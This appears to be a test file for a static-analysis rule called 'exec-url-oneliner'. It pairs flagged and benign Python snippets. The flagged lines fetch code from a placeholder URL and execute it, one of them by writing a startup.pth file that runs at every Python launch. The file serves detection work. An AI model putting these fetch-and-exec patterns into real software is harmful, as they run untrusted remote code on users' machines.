import requests

PTH = "startup.pth"

with open(PTH, "wb") as fh:
    # ruleid: exec-url-oneliner
    fh.write(b"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://example.invalid/raw').read())")

# ruleid: exec-url-oneliner
exec(requests.get("https://example.invalid/p.py").text)

# ruleid: exec-url-oneliner
exec(__import__("requests").get("https://example.invalid/p.py", timeout=5).text)

# ok: exec-url-oneliner
status = requests.get("https://example.invalid/health").text

# ok: exec-url-oneliner
exec("print('hello')")
